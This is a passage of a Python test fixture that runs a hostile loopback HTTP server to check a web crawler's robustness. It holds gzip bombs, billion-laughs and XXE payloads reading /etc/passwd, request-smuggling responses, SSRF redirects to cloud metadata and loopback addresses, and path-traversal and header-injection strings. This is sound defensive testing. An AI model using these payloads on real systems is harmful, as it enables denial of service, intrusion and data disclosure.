"""A hostile origin on loopback: one case a path, and for each case a port of its own, so that none holds up the rest.

    with Hostile(directory) as hostile:
        ...                                # crawl hostile.front
        for exchange in hostile.log[url]:  # one of hostile.paths(case)
            ...                            # .request, .pieces: bytes as they went

``CASES`` is the table: what the server does, and beside it what the crawl must make of that. The front page names
every case. Each port also has ordinary pages that must be captured whatever their neighbour does.
``Hostile.trap`` listens on every address of this machine for whoever can be lured there.
"""

from __future__ import annotations

import asyncio
import gzip
import random
import re
import socket
import struct
import threading
import zlib
from collections import defaultdict
from collections.abc import Awaitable, Callable
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field, replace
from functools import cache
from html import escape
from pathlib import Path
from typing import Self

from tests.integration.capture.certificates import Authority

HOST = "127.0.0.1"
OK = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
#: Somebody else's answer, for whoever takes bytes for more than they are.
EVIL = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 11\r\n\r\n<b>evil</b>"
#: What an endless answer sends, and the seconds from one to the next.
BLOCK, EVERY = b"endless " * 4096, 0.05


# What a case must become


@dataclass(frozen=True, kw_only=True)
class Expected:
    """What the frontier, the records and their metadata must say of a case in the end."""

    #: (state, reason) of the fetch; any of them.
    ends: tuple[tuple[str, str], ...]
    #: Statuses that its settled answer may have; 0 where there is none.
    status: tuple[int, ...] = (200,)
    #: Whether every answer is recorded ("whole"), cut off and said so ("cut"), kept as evidence of what is no HTTP
    #: ("odd"), or not there at all ("none").
    kept: str = "whole"
    #: WARC-Truncated of what is cut off; any of them.
    truncated: tuple[str, ...] = ()
    #: Part of what the metadata record says went wrong, or was odd.
    says: str = ""
    #: Bytes at the end of what is sent that are nobody's.
    surplus: int = 0
    #: Requests for it at the least, and at the most.
    asked: tuple[int, int] = (1, 99)


def whole(says: str = "", *, status: int = 200, surplus: int = 0) -> Expected:
    """Captured, every byte."""
    return Expected(ends=(("done", ""),), status=(status,), says=says, surplus=surplus)


def cut(*truncated: str, says: str = "") -> Expected:
    """Cut off three times, and then kept as what there is."""
    # What is longer than we take is asked for once: another try would get no more of it.
    ends = (("done", "partial"), ("done", "too long")) if "length" in truncated else (("done", "partial"),)
    return Expected(ends=ends, kept="cut", truncated=truncated, says=says, asked=(1 if "length" in truncated else 3, 3))


def waits(reason: str, says: str = "", *, status: int = 0, least: int = 1) -> Expected:
    """Never settled: asked again and again, ever less often."""
    return Expected(
        ends=(("queued", reason),), status=(status,), kept="whole" if status else "none", says=says, asked=(least, 99)
    )


def parked(reason: str, says: str = "") -> Expected:
    """Given up after a few tries, and reported; what came is kept as evidence."""
    return Expected(ends=(("parked", reason),), status=(0,), kept="odd", says=says, asked=(4, 4))


#: Redirects, to somewhere and to nowhere; an empty Location is none.
MOVED = Expected(ends=(("done", "redirect"),), status=(301,), asked=(1, 1))
LOST = replace(MOVED, ends=(("done", "redirect"), ("done", "redirect to what is no URL"), ("done", "")))


# How cases answer


@dataclass
class Exchange:
    """A request, and the answer as it was handed to the system, in pieces."""

    request: bytes
    pieces: list[bytes] = field(default_factory=list)


@dataclass
class Peer:
    """A connection, as a case sees it."""

    hostile: Hostile
    case: Case
    reader: asyncio.StreamReader
    writer: asyncio.StreamWriter
    exchange: Exchange
    target: str = ""

    @property
    def number(self) -> int:
        """What follows the last = or / of what is asked for, as a number."""
        found = re.search(r"[=/](\d+)$", self.target)
        return int(found[1]) if found else 0

    async def send(self, *pieces: bytes, pause: float = 0.0) -> None:
        for piece in pieces:
            self.exchange.pieces.append(piece)
            self.writer.write(piece)
            await self.writer.drain()
            if pause:
                await asyncio.sleep(pause)

    async def endless(self, piece: bytes, every: float = EVERY) -> None:
        while True:
            await self.send(piece)
            await asyncio.sleep(every)

    async def hang(self) -> None:
        """Say nothing more, until the other side goes."""
        await self.reader.read()

    def reset(self) -> None:
        """Make the close that follows a reset."""
        sock = self.writer.get_extra_info("socket")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


Serve = Callable[[Peer], Awaitable[bool | None]]


def sized(head: bytes = b"", body: bytes = b"", status: bytes = b"200 OK", kind: bytes = b"text/html") -> bytes:
    start = b"HTTP/1.1 %b\r\n%b" % (status, b"Content-Type: %b\r\n" % kind if kind else b"")
    return start + head + b"Content-Length: %d\r\n\r\n" % len(body) + body


def says(*pieces: bytes, then: str = "keep", pause: float = 0.0) -> Serve:
    """Answer with these bytes, then keep, close or reset the connection, or hang."""

    async def serve(peer: Peer) -> bool:
        await peer.send(*pieces, pause=pause)
        if then == "hang":
            await peer.hang()
        elif then == "reset":
            await asyncio.sleep(0.2)
            peer.reset()
        return then == "keep"

    return serve


def forever(start: bytes, piece: bytes, every: float = EVERY) -> Serve:
    async def serve(peer: Peer) -> None:
        await peer.send(start)
        await peer.endless(piece, every)

    return serve


def ok(body: bytes, head: bytes = b"", **kwargs: bytes) -> Serve:
    return says(sized(head, body, **kwargs))


def moved(location: bytes) -> Serve:
    return says(sized(b"Location: " + location + b"\r\n", b"moved", b"301 Moved"))


def chunk(data: bytes, extension: bytes = b"") -> bytes:
    return b"%x%b\r\n%b\r\n" % (len(data), extension, data)


def chunked(*lines: bytes) -> Serve:
    """Answer in chunks as they are given here, and close."""
    return says(OK + CHUNKED + b"".join(lines), then="close", pause=0.05)


@cache
def bomb(size: int, layers: int = 1) -> bytes:
    """Return gzip that swells to this many bytes, so many times over."""
    return gzip.compress(bytes(size) if layers == 1 else bomb(size, layers - 1), 6, mtime=0)


async def answers_again(peer: Peer) -> bool:
    """Answer, and then, when nothing was asked, answer again."""
    await peer.send(sized(b"", f"<a href='/{peer.case.name}/found'>".encode()))
    peer.writer.write(EVIL)
    return True


async def growing(peer: Peer) -> bool:
    url = f"http://{HOST}:{peer.case.port}/{peer.case.name}?n={peer.number + 1}"
    return bool(await moved(url.encode())(peer))


async def refreshing(peer: Peer) -> bool:
    url = f"/{peer.case.name}?page={peer.number + 1}"
    return bool(await ok(f"<meta http-equiv=refresh content='0; url={url}'>".encode())(peer))


async def deeper(peer: Peer) -> bool:
    return bool(await ok(f"<a href='a/'>deeper than {peer.target}</a>".encode())(peer))


async def calendar(peer: Peer) -> bool:
    year = peer.number or 2026
    links = "".join(f"<a href='/{peer.case.name}?calendar&year={year + step}'>" for step in (-20, 20))
    return bool(await ok(links.encode())(peer))


async def index_of_itself(peer: Peer) -> bool:
    here = f"http://{HOST}:{peer.case.port}/{peer.case.name}"
    more = "".join(f"<sitemap><loc>{url}</loc></sitemap>" for url in (here, f"{here}?more={peer.number + 1}"))
    return bool(await ok(f"<sitemapindex>{more}</sitemapindex>".encode(), kind=b"text/xml")(peer))


async def certificate_changes(peer: Peer) -> bool:
    """Serve one page, and from then on show a certificate that ran out."""
    if not peer.target.endswith("/after"):
        await peer.send(sized(b"Connection: close\r\n", f"<a href='/{peer.case.name}/after'>".encode()))
        peer.hostile.spoil_certificate()
    return False


async def odd_links(peer: Peer) -> bool:
    """Links as nobody should write them; all that lead somewhere lead here."""
    if peer.target != "/odd-links":
        return bool(await ok(b"found")(peer))
    here = f"{HOST}:{peer.case.port}"
    links = [link.replace("HERE", here).replace("TRAP", str(peer.hostile.trap)) for link in ODD_LINKS]
    page = "".join(f'<a href="{link}">' for link in links).encode("utf-8", "surrogatepass")
    return bool(await ok(page + b'<a href="/odd-links/\xff\xfe">', kind=b"text/html; charset=utf-8")(peer))


async def entities(peer: Peer) -> bool:
    return bool(await ok(_XXE % {b"trap": peer.hostile.trap}, kind=b"application/rss+xml")(peer))


def robots_say(text: bytes) -> Serve:
    return ok(text, kind=b"text/plain")


def robots_moved(location: str) -> Serve:
    async def serve(peer: Peer) -> bool:
        ports = {case.name: case.port for case in peer.hostile.cases}
        place = location.format(ports=ports, n=peer.number + 1, other=1 - peer.number, trap=peer.hostile.trap)
        return bool(await moved(place.encode())(peer))

    return serve


NO_RULES = robots_say(b"")


# The cases


@dataclass(eq=False)
class Case:
    """What a path does (and all paths below it), and what must become of it."""

    name: str
    expected: Expected
    serve: Serve
    #: How the front page names it: as a link, an image or a feed.
    named: str = "link"
    robots: Serve = NO_RULES
    #: What is said to whoever connects, before anything is asked.
    greeting: bytes = b""
    tls: bool = False
    #: "serves", "refuses" connections, or is "full": lets them wait.
    listens: str = "serves"
    #: Which URL the expectation is about: what the front page names, or the "robots" of its port.
    about: str = "path"
    #: Whether it has ordinary pages beside it, which must be captured.
    has_neighbour: bool = True
    #: More paths below it, for the front page to name.
    below: tuple[str, ...] = ()
    #: Whether it names a page /found below it that must be captured.
    finds: bool = False
    port: int = 0


_GZIP = b"Content-Encoding: gzip\r\n"
_LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY l0 "lol">%b]><rss><channel><item><link>&l12;</link></item></channel></rss>'
    % b"".join(b'<!ENTITY l%d "%b">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 13))
)
_XXE = (
    b'<!DOCTYPE l SYSTEM "http://localhost:%(trap)d/dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
    b'<!ENTITY %% p SYSTEM "http://localhost:%(trap)d/entity">%%p;]>'
    b"<rss><channel><item><link>http://127.0.0.2/&f;</link></item></channel></rss>"
)

SLOW = [
    Case("answers-slowly", whole(), says(b"", sized(b"", b"slowly"), pause=0.3)),
    Case("drips-a-status-line", waits("timeout", "dripped", least=2), forever(b"HTTP/1.1 200 ", b"O", 0.1)),
    Case("drips-a-head", cut("time", says="dripped"), forever(OK + b"X-Slow: ", b"z", 0.1)),
    Case("drips-interim-heads", waits("timeout", "dripped", least=2), forever(b"", b"HTTP/1.1 102 \r\n\r\n", 0.3)),
    Case("drips-a-body", cut("time", says="dripped"), forever(OK + b"Content-Length: 1000000\r\n\r\n", b"b", 0.1)),
    Case("drips-chunks", cut("time", says="dripped"), forever(OK + CHUNKED, b"1\r\nc\r\n", 0.1)),
    Case("never-answers", waits("timeout", "no answer came", least=2), says(then="hang")),
    Case("stalls-in-the-head", cut("time", says="nothing more came"), says(OK + b"X-Half: a", then="hang")),
    Case(
        "stalls-in-the-body", cut("time", says="nothing more came"),
        says(OK + b"Content-Length: 5000\r\n\r\nhalf of", then="hang"),
    ),
    Case("stalls-in-a-chunk-size", cut("time", says="nothing more came"), says(OK + CHUNKED + b"2\r\nok\r\n3", then="hang")),
    Case(
        "accepts-nobody", waits("timeout", "within 5 s", least=0), ok(b""), listens="full", about="robots",
        has_neighbour=False,
    ),
    Case("robots-never-answer", waits("timeout"), ok(b"never"), robots=says(then="hang"), about="robots", has_neighbour=False),
    Case(
        "robots-never-end", cut("time", says="dripped"), ok(b"for nobody said no"), about="robots",
        robots=forever(OK + b"\r\nUser-agent: *\nAllow: /", b"a", 0.1),
    ),
]  # fmt: skip

ENDLESS = [
    Case("endless-chunks", cut("time", says="not finished"), forever(OK + CHUNKED, chunk(BLOCK))),
    Case("endless-body", cut("time", says="not finished"), forever(OK + b"Connection: close\r\n\r\n", BLOCK)),
    Case("endless-and-fast", cut("length", "time"), forever(OK + CHUNKED, chunk(b"fast" * 65536), 0.0)),
    Case("endless-extension", cut("time"), forever(OK + CHUNKED + b"5;", BLOCK)),
    Case("endless-trailer", cut("time"), forever(OK + CHUNKED + b"2\r\nok\r\n0\r\n", b"X-Trailer: and more\r\n" * 1000)),
    Case("endless-gzip", cut("time", says="not finished"), forever(OK + _GZIP + b"\r\n", gzip.compress(BLOCK * 20, mtime=0))),
    Case("endless-header-line", cut("length", says="head is longer"), forever(OK + b"X-Endless: ", BLOCK)),
    Case("endless-headers", cut("length", says="head is longer"), forever(OK, b"X-One: more\r\n" * 2000)),
    Case("endless-interim", parked("protocol"), forever(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 1000)),
    Case("endless-nonsense", parked("protocol", "not HTTP"), forever(b"", BLOCK)),
]  # fmt: skip

HEADS = [
    Case("header-of-64-kib", whole(), ok(b"ok", b"X-Big: " + b"h" * 65536 + b"\r\n")),
    Case("ten-thousand-headers", whole(), ok(b"ok", b"".join(b"X-%d: %d\r\n" % (n, n) for n in range(10_000)))),
    Case("flood-of-cookies", whole(), ok(b"ok", b"".join(b"Set-Cookie: c%d=%b\r\n" % (n, b"v" * 50) for n in range(3000)))),
    Case("flood-of-links", whole(), ok(b"ok", b"".join(b"Link: </%d>; rel=preload\r\n" % n for n in range(3000)))),
    Case("control-bytes", whole(), ok(b"ok", b"X: a\0b\x01\x7f\x1b[31m\r\n\0\x02: c\r\nNo colon \xff\r\n: no name\r\n")),
    Case("bare-cr", whole(), ok(b"ok", b"X: a\rSet-Cookie: b=c\r\nY: d\r\r\n")),
    Case("head-not-utf-8", whole(), ok(b"ok", b"X-\xff\xfe: \xc3\x28\xed\xa0\x80\r\nContent-Encoding: \xff\r\n")),
    Case("fake-warc-records", whole(), ok(b"\r\n\r\nWARC/1.1\r\nWARC-Type: response\r\nContent-Length: 0\r\n\r\n\r\n\r\n")),
    Case("odd-status", whole(status=999), ok(b"odd", status=b"999 \xff\0")),
    Case("a-status-from-the-future", whole(), says(b"HTTP/9.9 200\r\nContent-Length: 2\r\n\r\nok")),
    Case("upgrades-unasked", whole(status=101, surplus=4), says(b"HTTP/1.1 101 Sure\r\nUpgrade: x\r\n\r\n", b"\x81\x02hi")),
    Case("no-content-and-a-body", whole(status=204, surplus=4), says(b"HTTP/1.1 204 No\r\n\r\nbody", pause=0.05)),
    Case("not-modified-unasked", whole(status=304), says(b"HTTP/1.1 304 No\r\nContent-Length: 9\r\n\r\n")),
    Case("head-without-end", cut("disconnect", says="of the head"), says(OK + b"X: y\r\n" * 300, then="close")),
    Case("http-0.9", parked("protocol", "not HTTP"), says(b"<html>HTTP/0.9 lives</html>", then="close")),
    Case("http-2", parked("protocol", "HTTP/2"), says(b"\0\0\x06\x04\0\0\0\0\0\0\x03\0\0\0\x64", then="close")),
    Case("icy", parked("protocol", "not HTTP"), says(b"ICY 200 OK\r\n\r\n" + bytes(range(256)), then="close")),
    Case("status-000", parked("protocol", "not HTTP"), says(b"HTTP/1.1 000 No\r\n\r\n", then="close")),
    Case("status-99999", parked("protocol", "not HTTP"), says(b"HTTP/1.1 99999 Much\r\n\r\n", then="close")),
    Case("speaks-tls-where-it-should-not", parked("protocol", "not HTTP"), says(b"\x15\x03\x01\0\x02\x02\x46", then="close")),
    Case(
        "ssh", parked("protocol", "not HTTP"), says(then="close"), greeting=b"SSH-2.0-OpenSSH_9.9\r\n", about="robots",
        has_neighbour=False,
    ),
    Case(
        "answers-before-it-is-asked", whole(surplus=0), says(then="close"),
        greeting=sized(b"Connection: close\r\n", b"here you are"), has_neighbour=False,
    ),
]  # fmt: skip

LENGTHS = [
    Case("length-too-long", cut("disconnect", says="4 of 5000"), says(OK + b"Content-Length: 5000\r\n\r\nfour", then="close")),
    Case("length-too-short", whole(surplus=9), says(OK + b"Content-Length: 4\r\n\r\nfour and more", pause=0.05)),
    Case("length-negative", whole("no number"), says(OK + b"Content-Length: -5\r\n\r\nfour", then="close")),
    Case("length-signed", whole("no number"), says(OK + b"Content-Length: +4\r\n\r\nfour", then="close")),
    Case("length-hex", whole("no number"), says(OK + b"Content-Length: 0x4\r\n\r\nfour", then="close")),
    Case("length-underscore", whole("no number"), says(OK + b"Content-Length: 1_0\r\n\r\nfour", then="close")),
    Case("length-not-ascii", whole("no number"), says(OK + b"Content-Length: \xd9\xa4\r\n\r\nfour", then="close")),
    Case("length-immense", whole("no number"), says(OK + b"Content-Length: 1%b\r\n\r\nfour" % (b"0" * 30), then="close")),
    Case("length-of-17-digits", cut("disconnect", says="of 1000"), says(OK + b"Content-Length: 1%b\r\n\r\nfour" % (b"0" * 17), then="close")),
    Case("length-of-5000-digits", whole("no number"), says(OK + b"Content-Length: %b\r\n\r\nok" % (b"9" * 5000), then="close")),
    Case("length-empty", whole(), says(OK + b"Content-Length: \r\n\r\nfour", then="close")),
    Case("lengths-differ", whole("differing"), says(OK + b"Content-Length: 2\r\nContent-Length: 4\r\n\r\nfour", then="close")),
    Case("lengths-in-a-list", whole("differing"), says(OK + b"Content-Length: 4, 2\r\n\r\nfour", then="close")),
]  # fmt: skip

CHUNKS = [
    Case("chunk-of-16-digits", cut("disconnect", says="last chunk"), chunked(b"FFFFFFFFFFFFFFFF\r\nsome")),
    Case("chunk-of-17-digits", cut("unspecified", says="no number"), chunked(b"FFFFFFFFFFFFFFFFF\r\nsome")),
    Case("chunk-negative", cut("unspecified", says="no number"), chunked(b"-4\r\nsome\r\n0\r\n\r\n")),
    Case("chunk-0x", cut("unspecified", says="no number"), chunked(b"0x4\r\nsome\r\n0\r\n\r\n")),
    Case("chunk-of-words", cut("unspecified", says="no number"), chunked(b"four\r\nsome\r\n0\r\n\r\n")),
    Case("chunk-not-ascii", cut("unspecified", says="no number"), chunked("٤\r\nsome\r\n0\r\n\r\n".encode())),
    Case("chunk-lies", cut("unspecified", says="longer than it said"), chunked(b"2\r\nsome\r\n0\r\n\r\n")),
    Case("chunk-without-end", cut("unspecified", says="longer than it said"), chunked(b"4\r\nsome4\r\nmore0\r\n\r\n")),
    Case("chunk-with-lone-cr", cut("unspecified", says="no number"), chunked(b"4\rsome\r\n0\r\n\r\n")),
    Case("chunk-extension-flood", cut("unspecified", says="too long"), chunked(b"4;%b\r\nsome\r\n0\r\n\r\n" % (b"x" * 20_000))),
    Case("chunk-extension-hides-one", cut("unspecified", says="no number"), chunked(b'4;a="\r\n0\r\n\r\n"\r\n', b"\r\n0\r\n\r\n")),
    Case("chunks-of-one-byte", whole(), says(OK + CHUNKED + b"1\r\n.\r\n" * 50_000 + b"0\r\n\r\n")),
    Case("chunk-trailer-too-long", cut("unspecified", says="trailer"), chunked(b"2\r\nok\r\n0\r\n" + b"X: y\r\n" * 20_000 + b"\r\n")),
]  # fmt: skip

SMUGGLING = [
    Case(
        "length-and-chunks", whole("both Content-Length", surplus=len(EVIL)),
        says(OK + b"Content-Length: 6\r\n" + CHUNKED + chunk(b"true") + b"0\r\n\r\n", EVIL, pause=0.05),
    ),
    Case(
        "chunks-and-length", whole("both Content-Length", surplus=len(EVIL)),
        says(OK + b"Transfer-Encoding: chunked\r\nContent-Length: 500\r\n\r\n4\r\ntrue\r\n0\r\n\r\n", EVIL, pause=0.05),
    ),
    Case(
        "coded-twice", whole("other than chunked", surplus=len(EVIL)),
        says(OK + b"Transfer-Encoding: x\r\n" + CHUNKED + chunk(b"true") + b"0\r\n\r\n", EVIL, pause=0.05),
    ),
    Case(
        "coded-and-not", whole("other than chunked", surplus=len(EVIL)),
        says(OK + b"Transfer-Encoding: identity\r\n" + CHUNKED + chunk(b"true") + b"0\r\n\r\n", EVIL, pause=0.05),
    ),
    Case("chunked-is-not-last", whole("other than chunked"), says(OK + b"Transfer-Encoding: chunked, x\r\n\r\n4\r\ntrue\r\n0\r\n\r\n", then="close")),
    Case("chunked-with-a-tab", whole("other than chunked"), says(OK + b"Transfer-Encoding: \x0bchunked\r\n\r\n4\r\ntrue\r\n0\r\n\r\n", then="close")),
    Case("chunked-behind-a-space", whole(surplus=len(EVIL)), says(OK + b"Transfer-Encoding : chunked\r\n\r\n4\r\ntrue\r\n0\r\n\r\n" + EVIL)),
    Case("chunked-in-a-fold", whole(surplus=len(EVIL)), says(OK + b"Transfer-Encoding:\r\n chunked\r\n\r\n4\r\ntrue\r\n0\r\n\r\n" + EVIL)),
    Case("chunked-in-http-1.0", whole("HTTP/1.0", surplus=len(EVIL)), says(b"HTTP/1.0 200 OK\r\n" + CHUNKED + chunk(b"true") + b"0\r\n\r\n", EVIL, pause=0.05)),
    Case("answers-twice", whole(surplus=len(EVIL)), says(sized(b"", b"true") + EVIL)),
    Case("answers-again-at-once", whole(), answers_again, has_neighbour=False, finds=True),
]  # fmt: skip

CODINGS = [
    Case("gzip-bomb", whole(), ok(bomb(128 << 20), _GZIP)),
    Case("gzip-bomb-in-a-bomb", whole(), ok(bomb(128 << 20, 2), b"Content-Encoding: gzip, gzip\r\n")),
    Case("gzip-bomb-three-deep", whole(), ok(bomb(128 << 20, 3), _GZIP * 3)),
    Case("gzip-of-angle-brackets", whole(), ok(gzip.compress(random.Random(1).randbytes(3) * 1000 + b"<a>" * (5 << 20), mtime=0), _GZIP)),
    Case("gzip-members", whole(), ok(gzip.compress(b"", mtime=0) * 10_000, _GZIP)),
    Case("gzip-truncated", whole(), ok(gzip.compress(b"<a href=/>" * 99, mtime=0)[:-9], _GZIP)),
    Case("gzip-damaged", whole(), ok(gzip.compress(b"<a href=/>" * 99, mtime=0)[:20] + b"\0" * 50, _GZIP)),
    Case("gzip-it-is-not", whole(), ok(b"plain text", _GZIP)),
    Case("deflate-it-is-not", whole(), ok(b"plain text", b"Content-Encoding: deflate\r\n")),
    Case("brotli-unasked", whole(), ok(b"\x0b\x02\x80hello\x03", b"Content-Encoding: br\r\n")),
    Case("zstd-unasked", whole(), ok(b"\x28\xb5\x2f\xfd\x20\x05\x29\0\0hello", b"Content-Encoding: zstd\r\n")),
    Case("twenty-codings", whole(), ok(bomb(1 << 20), b"Content-Encoding: " + b"gzip, " * 19 + b"gzip\r\n")),
    Case("zip-bomb.zip", whole(), ok(zlib.compress(bytes(32 << 20), 9), kind=b"application/zip")),
    *(
        Case(f"charset-{name}", whole(), ok(b"<a href=/charset-%b/found>\xe4\xff\\u0041" % name.encode(), kind=b"text/html; charset=" + name.encode()), finds=True)
        for name in ("undefined", "base64", "idna", "punycode", "utf-7", "rot13", "unicode_escape")
    ),
    Case("charset-of-garbage", whole(), ok(b"<meta charset='\0\xff'>\xed\xa0\x80\xff", kind=b"text/html; charset=\xff\0" + b"x" * 9999)),
]  # fmt: skip

#: Addresses of this machine and of others nobody crawls for, as many spellings as there are.
INWARD = (
    "http://10.0.0.1/", "http://192.168.1.1:8080/", "http://169.254.169.254/latest/meta-data/", "http://100.64.0.1/",
    "http://[::1]:{trap}/", "http://[::ffff:127.0.0.1]:{trap}/", "http://[::ffff:a00:1]/", "http://[fe80::1]/",
    "http://[64:ff9b::7f00:1]:{trap}/", "http://[2002:7f00:1::]:{trap}/", "http://[::]:{trap}/", "http://[fd00::1]/",
    "http://0.0.0.0:{trap}/", "http://127.0.0.2:{trap}/", "http://localhost:{trap}/", "http://LOCALHOST.:{trap}/",
    "http://2130706434:{trap}/", "http://0x7f000002:{trap}/", "http://0177.0.0.2:{trap}/", "http://127.2:{trap}/",
    "http://0:{trap}/", "http://224.0.0.1:{trap}/", "http://255.255.255.255:{trap}/", "http://user@127.0.0.2:{trap}/",
    "http://\uff11\uff12\uff17.0.0.2:{trap}/", "http://127\u30020\u30020\u30022:{trap}/", "https://localhost:{trap}/",
)  # fmt: skip
#: What a Location may say that leads nowhere.
NOWHERE = (
    b"file:///etc/passwd", b"javascript:alert(1)", b"data:text/html,<b>", b"ftp://127.0.0.1/", b"mailto:a@b", b"",
    b"http:", b"http://", b"//", b"///", b"http:///etc", b"http://[", b"http://[::1", b"http://]/", b"http://[v1.x]/",
    b"http://127.0.0.1:0/", b"http://127.0.0.1:99999/", b"http://127.0.0.1:x/", b"http://127.0.0.1:-1/", b"http://%00/",
    b"http://a b/", b"http://\0/", b"\0\x01\x02", b"http://\xff\xfe/", b"http://xn--a/", b"http://xn--\xff/",
    b"http://" + b"a" * 64 + b".example/", b"http://" + b"a." * 200 + b"example/", b"http://.../", b"http://%zz/",
    b"/" + b"x" * 100_000, b"gopher://127.0.0.1:1/", b"http://evil.example/", b"https:evil.example",
    b"http://evil.example\\@127.0.0.1/", b"?" + b"a=b&" * 5000, b"wais:\xed\xa0\x80", b"view-source:http://127.0.0.1/",
)  # fmt: skip
#: What a Location may say that leads somewhere after all, in one line of a request.
SOMEWHERE = (
    b"/nowhere/here\rX-Injected: 1", b"/nowhere/here\tHTTP/1.1", b"/nowhere/here HTTP/1.1", b"/nowhere/\xff\xfe\x80",
    b"/nowhere/\xed\xa0\x80", b"/nowhere/%", b"/nowhere/%zz%0d%0aX-Injected:%201", b"/nowhere/../../../../etc/passwd",
    b"/nowhere/\\..\\windows", b"\\nowhere\\here", b"/nowhere/a\0b", b"/nowhere/;jsessionid=1?x=\xe2\x80\xae#\xff",
)  # fmt: skip


def elsewhere(places: tuple[str | bytes, ...]) -> Serve:
    """Redirect to one of these places, by number."""

    async def serve(peer: Peer) -> bool:
        place = places[peer.number]
        location = place if isinstance(place, bytes) else place.format(trap=peer.hostile.trap).encode()
        return bool(await moved(location)(peer))

    return serve


def _numbered(places: tuple[str | bytes, ...]) -> tuple[str, ...]:
    return tuple(f"/{number}" for number in range(len(places)))


REDIRECTS = [
    Case("redirects-to-itself", MOVED, moved(b"/redirects-to-itself")),
    Case("redirects-in-a-ring", MOVED, elsewhere((b"/redirects-in-a-ring/1", b"/redirects-in-a-ring"))),
    Case("redirects-for-ever", MOVED, growing),
    Case("redirects-inward", MOVED, elsewhere(INWARD), named="image", below=_numbered(INWARD)),
    Case("redirects-nowhere", LOST, elsewhere(NOWHERE), below=_numbered(NOWHERE)),
    Case("redirects-somewhere", MOVED, elsewhere(SOMEWHERE), below=_numbered(SOMEWHERE)),
    Case(
        "redirects-by-a-base", MOVED,
        ok(b"<base href='http://127.0.0.2/'>", b"Location: redirects-by-a-base/found\r\n", status=b"301 Moved", kind=b"text/html; charset=undefined"),
        finds=True,
    ),
    Case("feed-moves-nowhere", LOST, moved(b"http://127.0.0.1:x/"), named="feed"),
    Case("redirects-many-times", MOVED, ok(b"moved", b"Location: /a\r\n" * 1000, status=b"301 Moved")),
]  # fmt: skip

BREAKS = [
    Case("resets-at-once", waits("cut", "before any answer", least=2), says(then="reset")),
    Case("closes-at-once", waits("cut", "before any answer", least=2), says(then="close")),
    Case(
        "resets-in-the-head",
        Expected(ends=(("done", "partial"), ("queued", "cut")), status=(0, 200), kept="cut", truncated=("disconnect",)),
        says(OK + b"X-Cut: of", then="reset"),
    ),
    Case("resets-in-the-body", cut("disconnect", says="of 5000"), says(OK + b"Content-Length: 5000\r\n\r\nhalf of", then="reset")),
    Case("resets-in-a-chunk", cut("disconnect", says="last chunk"), says(OK + CHUNKED + b"ff\r\nhalf of", then="reset")),
    Case("refuses", waits("refused", "connection refused", least=0), ok(b""), listens="refuses", about="robots", has_neighbour=False),
    Case("changes-its-certificate", whole(), certificate_changes, tls=True, has_neighbour=False),
]  # fmt: skip

ODD_LINKS = (
    "/odd-links/\ud800", "/odd-links/&#xD800;&#0;&#x110000;", "/odd-links/a%", "/odd-links/%zz%0d%0aX: y", "/odd-links/%25%25",
    "http://user:secret@HERE/odd-links/user", "http://a@b@HERE/odd-links/users", "//HERE/odd-links/no-scheme", "http:/odd-links/one-slash",
    "http:\\\\HERE\\odd-links\\backslashes", "\\odd-links\\backslash", " \t\n/odd-links/blanks \r", "/odd-links/t\tn\nr\r.",
    "http://HERE\\@evil.example/odd-links/a", "http://evil.example\\@HERE/odd-links/b", "http://HERE#@evil.example/", "http://HERE?@evil.example/",
    "http://HERE:80/odd-links/two-ports", "http://127.0.0.1:0/", "http://127.0.0.1:65536/", "http://127.0.0.1:\u0664/", "http://[127.0.0.1]/",
    "http://127.0.0.1%00.example/", "http://127.0.0.1%2f@evil.example/", "http://\uff11\uff12\uff17.0.0.2:TRAP/", "http://127.0.0.1.nip.invalid/",
    "/odd-links/?" + "&".join(f"p{n}=1" for n in range(100)), "/odd-links/" + "long" * 2000, "/odd-links/" + "deep/" * 60, "HTTP://HERE/odd-links/upper",
    "/odd-links/../../../etc/passwd", "/odd-links/%2e%2e/%2e%2e/", "/odd-links/;a=b;c", "/odd-links/#&#13;&#10;X: y", "/odd-links/&#13;&#10;X-Injected: 1",
    "javascript:fetch('http://127.0.0.2:TRAP/')", "view-source:http://127.0.0.2:TRAP/", "blob:http://127.0.0.2:TRAP/", "data:text/html,<a href=/>",
    "http://127.0.0.2:TRAP/", "http://localhost:TRAP/", "ws://127.0.0.2:TRAP/", "http://", "http:///", "://", ":", "?", "#", "[", "]", "http://[", "\ufeff/odd-links/bom",
)  # fmt: skip

TRAPS = [
    Case("repeats-itself", whole(), deeper, below=("/",)),
    Case("calendar", whole(), calendar),
    Case("refreshes-itself", whole(), ok(b"<meta http-equiv=refresh content=0>")),
    Case("refreshes-for-ever", whole(), refreshing),
    Case("base-elsewhere", whole(), ok(b"<base href='http://10.0.0.1/'><a href=a><img src=b><base href='javascript:'>")),
    Case("base-of-garbage", whole(), ok(b"<base href='http://[/'><a href=/base-of-garbage/found>"), finds=True),
    Case("two-hundred-thousand-links", whole(), ok(b"".join(b"<a href=/endless/%d>" % n for n in range(200_000)))),
    Case("thirty-megabytes-of-brackets", whole(), ok(b"<" * 30_000_000)),
    Case("twelve-megabytes-of-comment", whole(), ok(b"<!--" + b"-" * 12_000_000)),
    Case("a-hundred-thousand-deep", whole(), ok(b"<div>" * 100_000)),
    Case("tags-never-closed", whole(), ok(b"<b id=x><p>" * 50_000)),
    Case("a-hundred-thousand-attributes", whole(), ok(b"<a " + b" ".join(b"x%d=1" % n for n in range(100_000)) + b">")),
    Case("style-without-end", whole(), ok(b"<style>" + b"url( " * 200_000)),
    Case("srcset-without-end", whole(), ok(b"<img srcset='" + b", ," * 300_000 + b"'>")),
    Case("billion-laughs", whole(), ok(_LAUGHS, kind=b"application/rss+xml"), named="feed"),
    Case("entities-from-elsewhere", whole(), entities, named="feed"),
    Case("index-of-itself", whole(), index_of_itself, named="feed"),
    Case("json-a-million-deep", whole(), ok(b'{"items":' + b"[" * 1_000_000, kind=b"application/feed+json"), named="feed"),
    Case("xml-a-million-deep", whole(), ok(b"<rss>" + b"<a>" * 1_000_000, kind=b"text/xml"), named="feed"),
    Case("odd-links", whole(), odd_links),
